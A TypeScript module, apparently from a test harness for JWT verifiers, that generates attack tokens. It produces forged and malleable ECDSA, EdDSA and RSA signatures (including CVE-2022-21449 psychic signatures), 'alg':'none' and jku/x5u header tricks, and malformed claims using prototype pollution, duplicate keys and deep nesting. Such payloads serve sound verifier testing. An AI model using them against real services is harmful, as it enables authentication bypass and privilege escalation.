import type { Forge } from './forge.js';
import type { Attack } from './unsigned-attacks.js';

/** Order of the group of each curve, and of edwards25519. */
const ORDERS: Readonly<Record<string, bigint>> = {
  ES256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
  ES384: 0xffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973n,
  EdDSA: 0x1000000000000000000000000000000014def9dea2f79cd65812631a5cf5d3edn,
};

/** Signatures that a sloppy verifier took for good: psychic, malleable, of another encoding or length. */
export function signatureAttacks(forge: Forge, algorithm: string): Attack[] {
  const good = Buffer.from(forge.parts[2], 'base64url');
  const flipped = (bit: number): Buffer => {
    const bytes = Buffer.from(good);
    bytes[bit >> 3] = (bytes[bit >> 3] ?? 0) ^ (1 << (bit & 7));
    return bytes;
  };
  const signatures: Buffer[] = [
    Buffer.alloc(good.length),
    Buffer.alloc(good.length, 0xff),
    Buffer.alloc(1),
    Buffer.concat([good, Buffer.alloc(1)]),
    Buffer.concat([Buffer.alloc(1), good]),
    good.subarray(0, -1),
    good.subarray(1),
    good.subarray(0, good.length / 2),
    Buffer.concat([good, good]),
    Buffer.from(good).reverse(),
    Buffer.from(good.toString('hex')),
    ...Array.from({ length: 16 }, (_, n) => flipped(Math.floor((n * good.length * 8) / 16))),
    flipped(good.length * 8 - 1),
    ...(algorithm.startsWith('ES') ? ecdsaSignatures(good, ORDERS[algorithm]) : []),
    ...(algorithm === 'EdDSA' ? edwardsSignatures(good) : []),
    ...(/^[RP]S/.test(algorithm) ? rsaSignatures(good, forge.jwk['n'] ?? '') : []),
  ];
  return signatures.map((signature, index): Attack => [`${algorithm} signature ${index}`, forge.resigned(signature)]);
}

/** r and s of nothing, of the order or beyond it (CVE-2022-21449), and DER in place of the two numbers. */
function ecdsaSignatures(good: Buffer, order: bigint | undefined): Buffer[] {
  const size = good.length / 2;
  const [r, s] = [good.subarray(0, size), good.subarray(size)];
  const zero = Buffer.alloc(size);
  const one = Buffer.alloc(size);
  one[size - 1] = 1;
  const integer = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from([2, size + 1, 0]), bytes]);
  const der = Buffer.concat([integer(r), integer(s)]);
  const pairs: [Buffer, Buffer][] = [
    [zero, zero],
    [zero, one],
    [one, zero],
    [one, one],
    [r, zero],
    [zero, s],
    [s, r],
  ];
  if (order !== undefined) {
    const n = bigEndian(order, size);
    pairs.push([n, n], [n, zero], [zero, n], [r, n], [n, s], [bigEndian(order - 1n, size), one]);
  }
  return [...pairs.map((pair) => Buffer.concat(pair)), Buffer.concat([Buffer.from([0x30, der.length]), der])];
}

/** R of small order with S of nothing, and S moved on by the group's order, which RFC 8032 section 5.1.7 refuses. */
function edwardsSignatures(good: Buffer): Buffer[] {
  const identity = Buffer.alloc(32);
  identity[0] = 1;
  const [r, s] = [good.subarray(0, 32), good.subarray(32)];
  const moved = BigInt(`0x${Buffer.from(s).reverse().toString('hex')}`) + (ORDERS['EdDSA'] ?? 0n);
  return [
    Buffer.concat([identity, Buffer.alloc(32)]),
    Buffer.concat([Buffer.alloc(32), Buffer.alloc(32)]),
    Buffer.concat([r, Buffer.alloc(32)]),
    Buffer.concat([r, bigEndian(moved, 32).reverse()]),
  ];
}

/** The numbers that are their own signature, and the good one moved on by the modulus. */
function rsaSignatures(good: Buffer, modulus: string): Buffer[] {
  const n = BigInt(`0x${Buffer.from(modulus, 'base64url').toString('hex')}`);
  const number = BigInt(`0x${good.toString('hex')}`);
  const beyond = number + n;
  return [
    ...[1n, n - 1n, n, n - number].map((value) => bigEndian(value, good.length)),
    bigEndian(beyond, good.length + 1),
    ...(beyond < 1n << BigInt(good.length * 8) ? [bigEndian(beyond, good.length)] : []),
  ];
}

function bigEndian(value: bigint, size: number): Buffer {
  return Buffer.from(value.toString(16).padStart(size * 2, '0'), 'hex');
}

/**
 * Tokens whose signature is good, and which nobody should have made: by an implementation that signs whatever it is given. Two readers could
 * understand them differently, or they ask for something that is not done.
 */
export async function signedAttacks(forge: Forge): Promise<Attack[]> {
  const { header, claims, trap } = forge;
  const headerText = JSON.stringify(header);
  const claimsText = JSON.stringify(claims);
  const before = (member: string): string => `{${member},${claimsText.slice(1)}`;
  const headers: Record<string, unknown>[] = [
    { crit: [] },
    { crit: ['exp'] },
    { crit: ['alg'] },
    { crit: ['b64'], b64: false },
    { crit: ['http://example.org/x'], 'http://example.org/x': 1 },
    { crit: 'exp' },
    { b64: false },
    { b64: true },
    { zip: 'DEF' },
    { jwk: forge.jwk },
    { jku: trap },
    { x5u: trap },
    { x5c: [] },
    { typ: 'JWT' },
    { typ: undefined },
    { typ: ['at+jwt'] },
    { typ: 'at+jwt\0' },
    { typ: 'dpop+jwt' },
    { typ: 'logout+jwt' },
    { typ: 'password-change+jwt' },
    { alg: 'none' },
    { alg: undefined },
    { kid: undefined },
  ];
  const headerTexts = [
    `{"alg":"none",${headerText.slice(1)}`,
    `${headerText.slice(0, -1)},"alg":"none"}`,
    `{"kid":"x",${headerText.slice(1)}`,
    `{"\\u0061lg":"none",${headerText.slice(1)}`,
    `{"typ":"JWT",${headerText.slice(1)}`,
    `${headerText}{}`,
    `\ufeff${headerText}`,
    `${headerText}\0`,
  ];
  const changes: Record<string, unknown>[] = [
    ...[undefined, null, true, '9999999999', 'never', '', {}, [], [9_999_999_999], -1, 0, 1e300].map((exp) => ({
      exp,
    })),
    ...[undefined, null, 'x', true, [], {}, 9_999_999_999].map((iat) => ({ iat })),
    ...[null, '0', true, [], {}, 9_999_999_999].map((nbf) => ({ nbf })),
    ...[undefined, null, '', 1, [], {}, ['x']].map((sub) => ({ sub })),
    ...[undefined, null, '', 1, [], {}, [1], ['x'], [[claims['aud']]], `${String(claims['aud'])}/`].map((aud) => ({
      aud,
    })),
    ...[
      undefined,
      null,
      '',
      1,
      [claims['iss']],
      {},
      trap,
      `${String(claims['iss'])}/`,
      `${String(claims['iss'])}\0`,
    ].map((iss) => ({ iss })),
    ...[undefined, null, '', 1, []].map((jti) => ({ jti })),
    ...[undefined, null, 1].map((client_id) => ({ client_id })),
    ...[null, '', 1, []].map((sid) => ({ sid })),
    ...[null, 'admin', [1], { admin: true }].map((roles) => ({ roles })),
    ...[null, 'users:read', [['users:read']], { sub: [], pub: [], all: [] }].map((permissions) => ({ permissions })),
    ...[undefined, null, '1', -1, 0.5, 2 ** 53, [1], {}, Number.MAX_SAFE_INTEGER].map((as_of) => ({ as_of })),
  ];
  const payloadTexts = [
    ...['exp', 'sub', 'aud', 'as_of', 'jti', 'sid'].map((name) => before(`"${name}":${JSON.stringify(claims[name])}`)),
    ...['exp', 'sub'].map((name) => `${claimsText.slice(0, -1)},"${name}":9999999999}`),
    before('"\\u0065xp":9999999999'),
    before('"a":{"b":1,"b":2}'),
    before('"__proto__":{},"__proto__":{"exp":1}'),
    claimsText.replace(/"exp":\d+/, '"exp":1e999'),
    claimsText.replace(/"exp":\d+/, '"exp":-1e999'),
    claimsText.replace(/"as_of":\d+/, '"as_of":1e999'),
    claimsText.replace(/"exp":/, '"EXP":'),
    claimsText.replace(/"exp":(\d+)/, '"__proto__":{"exp":$1}'),
    before(`"deep":${'['.repeat(20)}${']'.repeat(20)}`),
    before(`"deep":${'['.repeat(3000)}${']'.repeat(3000)}`),
    before(`"deep":${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}`),
    `${claimsText}\0`,
    `\ufeff${claimsText}`,
    `[${claimsText}]`,
    JSON.stringify(claimsText),
    JSON.stringify(forge.token),
  ];
  const made = await Promise.all([
    ...headers.map(async (change): Promise<Attack> => [
      `signed header ${JSON.stringify(change)}`,
      await forge.signedHeader(change),
    ]),
    ...headerTexts.map(async (text): Promise<Attack> => [
      `signed header text ${text}`,
      await forge.signed(text, claimsText),
    ]),
    ...changes.map(async (change): Promise<Attack> => [
      `signed claims ${JSON.stringify(change)}`,
      await forge.signedClaims(change),
    ]),
    ...payloadTexts.map(async (text, index): Promise<Attack> => [
      `signed payload text ${index}`,
      await forge.signed(headerText, text),
    ]),
  ]);
  return [
    ...made,
    ['signed UTF-16', await forge.signed(headerText, Buffer.from(claimsText, 'utf16le'))],
    [
      'signed bytes that are no UTF-8',
      await forge.signed(headerText, Buffer.from([...Buffer.from(claimsText.slice(0, -2)), 0xff, 0x22, 0x7d])),
    ],
  ];
}
